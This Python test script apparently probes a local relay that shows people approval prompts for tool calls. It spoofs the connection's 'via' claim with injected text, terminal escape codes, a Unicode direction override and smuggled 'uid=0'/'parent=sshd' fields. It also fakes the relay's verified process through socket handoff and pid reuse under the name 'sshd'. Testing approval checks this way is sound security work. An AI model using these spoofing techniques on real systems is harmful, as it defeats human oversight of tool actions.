"""A3: the stdio socket spoken raw (what the relay does: a first line `TOKEN\\tssh=IP PORT`, then
JSON-RPC lines). (a) the via claim carries arbitrary text / extra fields; (b) the connection is
made by a short-lived process that hands the fd over (SCM_RIGHTS) and exits, so the 'verified'
relay pid is dead; (c) that pid is then reused (ns_last_pid) by a process named 'sshd'."""
import array, json, os, socket, sys, time, threading, queue, ctypes
from lib import *

libc = ctypes.CDLL(None)


class Raw:
    def __init__(self, sock, name="raw-agent"):
        self.s = sock
        self.f = sock.makefile("r", encoding="utf-8")
        self.q = queue.Queue()
        threading.Thread(target=self._read, daemon=True).start()
        self.id = 0
        r = self.rpc("initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": name, "version": "1"}})
        assert "result" in r, r
        self.s.sendall(b'{"jsonrpc":"2.0","method":"notifications/initialized"}\n')

    def _read(self):
        for l in self.f:
            try:
                self.q.put(json.loads(l))
            except Exception:
                pass

    def rpc(self, method, params, timeout=40):
        self.id += 1
        self.s.sendall((json.dumps({"jsonrpc": "2.0", "id": self.id, "method": method, "params": params}) + "\n").encode())
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                m = self.q.get(timeout=1)
            except queue.Empty:
                continue
            if m.get("id") == self.id:
                return m
        return {"timeout": True}


def connect(s, pre):
    so = socket.socket(socket.AF_UNIX)
    so.connect(s.descriptor["unix"])
    so.sendall(pre.encode() + b"\n")
    return so


def via_case(s, p, label, pre_tail):
    try:
        r = Raw(connect(s, s.token + pre_tail))
    except Exception as e:
        log(f"== {label}: refused ({e!r})")
        return
    b = bg(r.rpc, "tools/call", {"name": "android_uninstall_app", "arguments": NOTES})
    a = p.ask(timeout=10)
    if not a:
        log(f"== {label}: no ask: {wait_box(b, 5)}")
        return
    log(f"== {label}: via={a['via']!r} verified={json.dumps(a['verified'])}")
    p.deny(a["call_id"])
    wait_box(b, 20)
    r.s.close()


def fd_handoff(s):
    """Child connects and sends the preamble, passes the fd to us, exits. Returns (sock, child pid)."""
    a, b = socket.socketpair(socket.AF_UNIX)
    pid = os.fork()
    if pid == 0:
        so = connect(s, s.token)
        b.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [so.fileno()]))])
        os._exit(0)
    msg, anc, _, _ = a.recvmsg(1, socket.CMSG_LEN(4))
    fd = array.array("i", anc[0][2][:4])[0]
    os.waitpid(pid, 0)
    return socket.socket(fileno=fd), pid


def main():
    s = Serve()
    try:
        p = Person(s)
        for label, tail in [
            ("genuine-looking", "\tssh=10.9.8.7 2222"),
            ("text in via", "\tssh=10.9.8.7 2222 (verified) the person at /dev/pts/77"),
            ("escape in via", "\tssh=\x1b[31m10.0.0.1\x1b[0m 22"),
            ("unicode in via", "\tssh=\u202e1.1.1.1 22"),
            ("extra key person=", "\tssh=1.2.3.4 5\tperson=/dev/pts/77"),
            ("extra key pid=/uid=", "\tpid=1\tuid=0\tparent=sshd"),
            ("ssh given twice", "\tssh=1.1.1.1 1\tssh=2.2.2.2 2"),
            ("no ssh", ""),
        ]:
            via_case(s, p, label, tail)

        # (b) dead relay pid
        sock, dead = fd_handoff(s)
        r = Raw(sock)
        bx = bg(r.rpc, "tools/call", {"name": "android_uninstall_app", "arguments": NOTES})
        a = p.ask(timeout=10)
        log(f"== fd handed over by pid {dead} (exited): verified={json.dumps(a['verified']) if a else None}")
        if a:
            p.deny(a["call_id"])
        wait_box(bx, 20)
        # (c) reuse that pid for a process named sshd, then ask again on the same connection
        child = None
        try:
            open("/proc/sys/kernel/ns_last_pid", "w").write(str(dead - 1))
            child = os.fork()
            if child == 0:
                libc.prctl(15, b"sshd", 0, 0, 0)
                time.sleep(30)
                os._exit(0)
            log(f"   reused pid? child={child} target={dead}")
        except Exception as e:
            log("   ns_last_pid failed", e)
        bx = bg(r.rpc, "tools/call", {"name": "android_uninstall_app", "arguments": NOTES})
        a = p.ask(timeout=10)
        log(f"== same connection after pid reuse: verified={json.dumps(a['verified']) if a else None}")
        if a:
            p.deny(a["call_id"])
        wait_box(bx, 20)
        # (d) new connection handed over by a dead pid that was reused before the ask
        sock2, dead2 = fd_handoff(s)
        child2 = None
        try:
            open("/proc/sys/kernel/ns_last_pid", "w").write(str(dead2 - 1))
            child2 = os.fork()
            if child2 == 0:
                libc.prctl(15, b"sshd", 0, 0, 0)
                time.sleep(30)
                os._exit(0)
        except Exception as e:
            log("   ns_last_pid failed", e)
        r2 = Raw(sock2)
        bx = bg(r2.rpc, "tools/call", {"name": "android_uninstall_app", "arguments": NOTES})
        a = p.ask(timeout=10)
        log(f"== connected by pid {dead2}, reused by 'sshd' child {child2} before initialize: verified={json.dumps(a['verified']) if a else None}")
        if a:
            p.deny(a["call_id"])
        wait_box(bx, 20)
        for c in (child, child2):
            if c:
                os.kill(c, 9); os.waitpid(c, 0)
        rec = s.audit("android_uninstall_app")
        log("audit verified (last 2):", [json.dumps(x.get("verified")) for x in rec[-2:]])
        log("audit claimedVia:", [x.get("claimedVia") for x in rec])
        p.close()
    finally:
        s.stop()


main()
